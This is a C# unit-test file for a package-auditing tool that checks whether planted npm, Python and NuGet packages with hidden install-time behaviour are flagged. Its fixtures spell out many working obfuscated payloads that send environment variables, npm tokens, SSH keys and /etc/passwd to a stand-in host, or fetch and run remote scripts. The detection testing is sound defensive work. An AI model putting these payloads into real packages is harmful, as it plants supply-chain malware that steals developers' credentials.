using System.Text;
using System.Text.Json;
using Xunit;

namespace Astra.Tests.Auditing;

/// <summary>What runs without being called: install scripts, build files, start-up hooks; disguised, and honest.</summary>
public sealed class ScriptTests : IDisposable
{
    private readonly PlantedPackages _planted = new();

    public void Dispose() => _planted.Dispose();

    private static string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));

    private static string Codes(string text) => string.Join(",", text.Select(character => (int)character));

    private static string Manifest(string script, string command) => JsonSerializer.Serialize(
        new { name = "planted", version = "1.0.0", scripts = new Dictionary<string, string> { [script] = command, ["helper"] = "node setup.js" } });

    public static TheoryData<string, string> ExfiltratingInstallScripts { get; } = new()
    {
        { "curl -s -d \"$(env)\" https://collect.example/x", "" },
        { "cat ~/.npmrc | curl -X POST --data-binary @- https://collect.example", "" },
        { "node setup.js", "const https=require('https');const r=https.request({host:'collect.example',method:'POST'});r.end(JSON.stringify(process.env));" },
        { "node ./scripts/setup", "const e = process.env; require('http').get('http://collect.example/?d=' + encodeURIComponent(JSON.stringify(e)));" },
        { "node setup.js", "const c=require('child_'+'process');c.execSync('cu'+'rl -d @'+require('os').homedir()+'/.s'+'sh/id_r'+'sa https://collect.example')" },
        { "node setup.js", $"eval(Buffer.from('{Base64("require('https').get('https://collect.example/?'+JSON.stringify(process.env))")}','base64').toString())" },
        { "node setup.js", $"const s=String.fromCharCode({Codes("require('child_process').exec('curl -d @/etc/passwd https://collect.example')")});new Function('require',s)(require)" },
        { "python3 -c \"import os,urllib.request;urllib.request.urlopen('https://collect.example',data=str(dict(os.environ)).encode())\"", "" },
        { "powershell -c \"iwr https://collect.example -Method POST -Body (gci env: | out-string)\"", "" },
        { "node setup.js", $"const w='{Convert.ToHexStringLower(Encoding.UTF8.GetBytes("curl -s https://collect.example/p.sh | sh"))}';require('child_process').exec(Buffer.from(w,'hex').toString())" },
        { "node setup.js", "const x=['c','u','r','l',' -d @/etc/passwd https://collect.example'].join('');require('child_process').execSync(x)" },
        { "wget -qO- https://collect.example/i.sh | bash", "" },
        { "bash -c 'exec 3<>/dev/tcp/198.51.100.7/4444; cat ~/.ssh/id_rsa >&3'", "" },
        { "npm run helper", "const d=require('dns');d.resolve(Buffer.from(JSON.stringify(process.env)).toString('hex').slice(0,60)+'.collect.example',()=>{})" },
    };

    [Theory]
    [MemberData(nameof(ExfiltratingInstallScripts))]
    public void An_install_script_that_sends_secrets_is_caught(string command, string program) =>
        _planted.InspectNpm(
            ("package.json", Manifest("postinstall", command)),
            ("setup.js", program), ("scripts/setup.js", program)).IsCaught();

    [Theory]
    [InlineData("preinstall")]
    [InlineData("install")]
    [InlineData("postinstall")]
    [InlineData("prepare")]
    public void Every_lifecycle_script_is_read(string name) =>
        _planted.InspectNpm(("package.json", Manifest(name, "curl -d @$HOME/.npmrc https://collect.example"))).IsCaughtBy("auto-exfiltrates");

    [Fact]
    public void A_gyp_file_that_runs_commands_is_read_like_an_install_script() =>
        _planted.InspectNpm(("package.json", "{}"), ("binding.gyp", "{'targets':[{'target_name':'x','sources':['<!(curl -s https://collect.example/p.sh | sh)']}]}")).IsCaught();

    public static TheoryData<string, string> HonestInstallScripts { get; } = new()
    {
        { "node-gyp-build", "" },
        { "prebuild-install || node-gyp rebuild", "" },
        { "husky install", "" },
        { "node -e \"try{require('./postinstall')}catch(e){}\"", "console.log('Thank you for using planted! https://opencollective.example/planted');" },
        { "node setup.js", "const fs=require('fs');const path=require('path');fs.mkdirSync(path.join(__dirname,'cache'),{recursive:true});if(process.env.CI){console.log('CI')}" },
        { "node setup.js", "// See https://example.com for how curl | sh is avoided\nconst {execFileSync}=require('child_process');execFileSync('node-gyp',['rebuild'],{stdio:'inherit'});" },
        { "patch-package", "" },
    };

    [Theory]
    [MemberData(nameof(HonestInstallScripts))]
    public void An_install_script_that_compiles_or_greets_is_unremarkable(string command, string program) =>
        _planted.InspectNpm(
            ("package.json", Manifest("postinstall", command)),
            ("setup.js", program), ("postinstall.js", program)).IsUnremarkable();

    public static TheoryData<string> HostilePathFiles { get; } =
    [
        "import os;os.system('curl https://collect.example | sh')\n",
        $"import base64;exec(base64.b64decode('{Base64("import urllib.request;urllib.request.urlopen('https://collect.example')")}'))\n",
        "./planted\nimport\tsubprocess;subprocess.Popen(['sh','-c','id'])\n",
        "import planted_hook\n",
        "import sys;exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115])))\n",
    ];

    [Theory]
    [MemberData(nameof(HostilePathFiles))]
    public void A_path_file_that_runs_code_is_caught(string content) =>
        _planted.InspectPython(("planted.pth", content), ("planted_hook.py", "import os,urllib.request\nurllib.request.urlopen('https://collect.example', data=str(dict(os.environ)).encode())\n")).IsCaught();

    [Theory]
    [InlineData("sitecustomize.py")]
    [InlineData("usercustomize.py")]
    public void A_module_that_every_start_imports_is_caught(string name) =>
        _planted.InspectPython((name, "print('hello')\n")).IsCaughtBy("start-up-module");

    [Fact]
    public void A_path_file_that_only_adds_a_path_is_unremarkable() =>
        _planted.InspectPython(("planted.pth", "planted/vendor\n# import os is not executed in a comment\n"), ("planted/__init__.py", "")).IsUnremarkable();

    public static TheoryData<string> HostileBuildFiles { get; } =
    [
        "<Exec Command=\"curl -s https://collect.example/p.sh | sh\" />",
        "<Exec Command=\"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA\" />",
        "<DownloadFile SourceUrl=\"https://collect.example/x.dll\" DestinationFolder=\"$(TEMP)\" />",
        "<Exec Command=\"$(A)$(B) -d @$(HOME)/.ssh/id_rsa https://collect.example\" />",
        "<Exec Command=\"sh &quot;$(MSBuildThisFileDirectory)../tools/setup.sh&quot;\" />",
    ];

    [Theory]
    [MemberData(nameof(HostileBuildFiles))]
    public void A_build_file_that_attacks_is_caught(string task) =>
        _planted.InspectNuGet(
            ("buildTransitive/Planted.targets", $"<Project><PropertyGroup><A>cu</A><B>rl</B></PropertyGroup><Target Name=\"T\" BeforeTargets=\"Build\">{task}</Target></Project>"),
            ("tools/setup.sh", "#!/bin/sh\nenv | curl --data-binary @- https://collect.example\n")).IsCaught();

    [Fact]
    public void An_inline_task_that_sends_the_environment_is_caught() =>
        _planted.InspectNuGet(("build/Planted.targets", """
            <Project><UsingTask TaskName="T" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)/Microsoft.Build.Tasks.Core.dll">
              <Task><Code Type="Fragment" Language="cs"><![CDATA[ var all = System.Environment.GetEnvironmentVariables(); new System.Net.Http.HttpClient().PostAsync("https://collect.example", null).Wait(); ]]></Code></Task>
            </UsingTask></Project>
            """)).IsCaughtBy("auto-exfiltrates");

    [Fact]
    public void A_property_that_names_a_start_up_hook_is_caught() =>
        _planted.InspectNuGet(("build/Planted.props", "<Project><PropertyGroup><RunEnv>DOTNET_STARTUP_HOOKS=$(MSBuildThisFileDirectory)hook.dll</RunEnv></PropertyGroup></Project>")).IsCaughtBy("auto-hooks-runtime");

    [Fact]
    public void An_install_script_of_visual_studio_that_downloads_is_caught() =>
        _planted.InspectNuGet(("tools/init.ps1", "param($a,$b,$c)\niex (New-Object Net.WebClient).DownloadString('https://collect.example/p.ps1')\n")).IsCaughtBy("auto-downloads-and-runs");

    [Fact]
    public void A_build_file_that_sets_properties_and_copies_is_unremarkable() =>
        _planted.InspectNuGet(
            ("build/Planted.targets", "<Project><PropertyGroup><PlantedVersion>1</PlantedVersion></PropertyGroup><ItemGroup><Content Include=\"$(MSBuildThisFileDirectory)x.json\" CopyToOutputDirectory=\"PreserveNewest\" /></ItemGroup><Target Name=\"T\"><Copy SourceFiles=\"a\" DestinationFolder=\"b\" /><Message Text=\"see https://example.com\" /></Target></Project>"),
            ("build/x.json", "{}"), ("tools/install.ps1", "param($installPath, $toolsPath, $package, $project)\nforeach($a in Get-ChildItem $toolsPath -Filter *.dll) { $project.Object.AnalyzerReferences.Add($a.FullName) }\n")).IsUnremarkable();
}
